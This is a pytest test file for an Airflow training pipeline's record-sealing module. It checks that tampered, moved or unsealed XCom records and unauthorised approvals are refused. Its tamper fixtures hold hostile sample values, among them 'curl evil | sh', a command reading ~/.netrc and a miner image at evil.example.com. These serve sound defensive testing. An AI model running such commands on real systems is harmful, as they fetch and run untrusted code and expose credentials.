"""Seals on task records: a record is believed only as the task that owns it wrote it, for its run."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest

from aliyun_training import seals
from aliyun_training.seals import SealError, check, opened_state, seal, sealed_state
from aliyun_training.stage_records import ApprovalAnswer
from tests.operator_harness import TaskInstanceIds

if TYPE_CHECKING:
    from collections.abc import Iterator

PLAN = {"spec": {"command": "python train.py --epochs 3"}, "output_root": "/outputs"}
WHERE = ("retrain", "manual__1", "configure")


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("AIRFLOW__ALIYUN_TRAINING__SEAL_SECRET", "a deployment secret")
    seals._secret.cache_clear()
    yield
    seals._secret.cache_clear()


def test_a_record_as_its_task_wrote_it_passes() -> None:
    sealed = {"job": seal(PLAN, *WHERE, "job")}

    check({**PLAN}, sealed, *WHERE, "job")


@pytest.mark.parametrize(
    ("value", "where", "key"),
    [
        ({**PLAN, "spec": {"command": "curl evil | sh"}}, WHERE, "job"),  # the command changed
        (PLAN, ("retrain", "manual__2", "configure"), "job"),  # another run's record copied here
        (PLAN, ("other_dag", "manual__1", "configure"), "job"),  # another pipeline's
        (PLAN, ("retrain", "manual__1", "train"), "job"),  # another task's
        (PLAN, WHERE, "staging"),  # another key's
    ],
)
def test_a_changed_or_moved_record_is_refused_naming_the_task_and_key(
    value: dict[str, object], where: tuple[str, str, str], key: str
) -> None:
    sealed = {"job": seal(PLAN, *WHERE, "job"), "staging": "0" * 64}

    with pytest.raises(SealError, match=rf"{where[2]}'s XCom '{key}' of run {where[1]} does not match"):
        check(value, sealed, *where, key)


@pytest.mark.parametrize("sealed", [None, {}, {"job": None}, "forged", {"job": 1}])
def test_a_record_without_its_seal_is_refused(sealed: object) -> None:
    with pytest.raises(SealError, match="configure's XCom 'job' of run manual__1 "):
        check(PLAN, sealed, *WHERE, "job")


def test_another_deployments_secret_makes_another_seal(monkeypatch: pytest.MonkeyPatch) -> None:
    ours = seal(PLAN, *WHERE, "job")
    monkeypatch.setenv("AIRFLOW__ALIYUN_TRAINING__SEAL_SECRET", "another deployment")
    seals._secret.cache_clear()

    assert seal(PLAN, *WHERE, "job") != ours
    assert "a deployment secret" not in ours, "the seal is a digest, never the secret"


def test_without_any_secret_nothing_is_sealed_and_the_error_names_the_setting(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for section, option in seals.SECRET_OPTIONS:
        monkeypatch.setenv(f"AIRFLOW__{section.upper()}__{option.upper()}", "")
    seals._secret.cache_clear()

    with pytest.raises(SealError, match=r"set \[aliyun_training\] seal_secret"):
        seal(PLAN, *WHERE, "job")


def test_saved_state_opens_only_for_the_task_instance_that_saved_it() -> None:
    run = {"mode": "pod", "handle": {"pod": "stage-1"}}
    saved = sealed_state(run, TaskInstanceIds(), "staging_run_handle")

    assert opened_state(saved, TaskInstanceIds(), "staging_run_handle") == run
    assert opened_state(saved, TaskInstanceIds(run_id="manual__2"), "staging_run_handle") is None
    assert opened_state(saved, TaskInstanceIds(), "image_build_handle") is None
    forged = {**saved, "value": {"mode": "pod", "handle": {"pod": "another-teams-pod"}}}
    assert opened_state(forged, TaskInstanceIds(), "staging_run_handle") is None
    assert opened_state({"mode": "pod"}, TaskInstanceIds(), "staging_run_handle") is None, "unsealed"


@pytest.mark.parametrize(
    ("answer", "approvers", "refusal"),
    [
        (ApprovalAnswer(option="Approve", responded_by={"id": "alice", "name": "alice"}), ["alice"], None),
        (ApprovalAnswer(option="Approve", responded_by={"id": "7", "name": "alice"}), [], None),
        (
            ApprovalAnswer(option="Reject", responded_by={"id": "alice"}),
            ["alice"],
            "answered 'Reject' by alice",
        ),
        (
            ApprovalAnswer(option="Approve", responded_by={"id": "mallory"}),
            ["alice"],
            "mallory approved, but",
        ),
        (ApprovalAnswer(option="Approve"), [], "answered by no recorded user"),
    ],
)
def test_only_approve_by_one_of_the_approvers_approves(
    answer: ApprovalAnswer, approvers: list[str], refusal: str | None
) -> None:
    found = answer.refusal(approvers)

    assert found is None if refusal is None else refusal in (found or "")


#: What a user may rewrite through the XCom routes, record by record: the task, the key and a change
#: to it. Every one is refused by the task that reads it, naming the task and key.
TAMPERED = [
    ("configure", "job", {"spec": {"command": "curl x | sh"}}),
    ("configure", "dataset", {"name": "cifar10", "version": "other-teams-version"}),
    ("configure", "staging", {"source_uri": "oss://another-team/data/", "mode": "direct"}),
    ("configure", "image", {"pinned": "evil.example.com/miner:latest"}),
    ("configure", "artifacts", {"model": "cifar10", "artifact_root": "oss://another-team/models/"}),
    ("configure", "evaluation", {"job": {"spec": {"command": "sh -c 'cat ~/.netrc'"}}}),
    ("configure", "prepare", {"raw_uri": "oss://another-team/raw/"}),
    ("configure", "preflight", {"role_name": "AliyunPAIDLCAdmin"}),
    ("configure", "rdma_check", {"skip": True}),
    ("configure", "backend", "local"),
    ("configure", "skip_preflight", True),
    ("configure", "dry_run", False),
    ("configure", "return_value", {"dry_run": False, "backend": "dlc"}),
    ("stage_dataset", "return_value", {"uri": "/mnt/cpfs/another-team/data", "version": "v1"}),
    ("build_image", "return_value", {"uri": "evil.example.com/miner:latest", "source": "pinned"}),
    ("verify_image", "return_value", {"uri": "evil.example.com/miner:latest", "verified": True}),
    ("training_runtime", "return_value", {"uri": "/usr/bin/python3", "verified": True}),
    ("check_rdma", "return_value", {"verdict": "pass", "measured_gbps": 400}),
    ("train", "return_value", {"job_id": "dlc-of-another-team", "output_uri": "oss://another-team/out/"}),
    ("evaluate", "return_value", {"comparison": {"candidate": {"acc": 1.0}, "champion": None}}),
    ("publish_artifacts", "return_value", {"uri": "/srv/another-team/artifacts/", "promotion": None}),
    ("approve_promotion", "return_value", {"option": "Approve", "responded_by": {"id": "alice"}}),
    ("show_plan", "return_value", {"requests": []}),
]


@dataclass
class RecordsOfRun:
    """A reading task instance of run manual__1: what each task pushed, as the XCom routes left it."""

    pushed: dict[tuple[str, str], object]
    dag_id: str = "retrain"
    run_id: str = "manual__1"

    def xcom_pull(self, task_ids: str, key: str) -> object:
        return self.pushed.get((task_ids, key))


@pytest.mark.parametrize(("task_id", "key", "changed"), TAMPERED, ids=[f"{t}.{k}" for t, k, _ in TAMPERED])
def test_a_record_rewritten_through_the_xcom_routes_fails_the_task_that_reads_it(
    task_id: str, key: str, changed: object
) -> None:
    from airflow.sdk.exceptions import AirflowFailException

    from aliyun_training.upstream import Returned, read_returned

    original = {"as": "the task returned it"}
    sealed = {key: seal(original, "retrain", "manual__1", task_id, key)}
    ti = RecordsOfRun({(task_id, key): original, (task_id, "seal"): sealed})
    assert read_returned(ti, Returned(task_id, key)) == original

    ti.pushed[(task_id, key)] = changed
    with pytest.raises(
        AirflowFailException, match=rf"{task_id}'s XCom '{key}' of run manual__1 does not match"
    ):
        read_returned(ti, Returned(task_id, key))
    del ti.pushed[(task_id, "seal")]  # and with its seal deleted too
    with pytest.raises(AirflowFailException, match=rf"{task_id}'s XCom '{key}' of run manual__1 has no seal"):
        read_returned(ti, Returned(task_id, key))
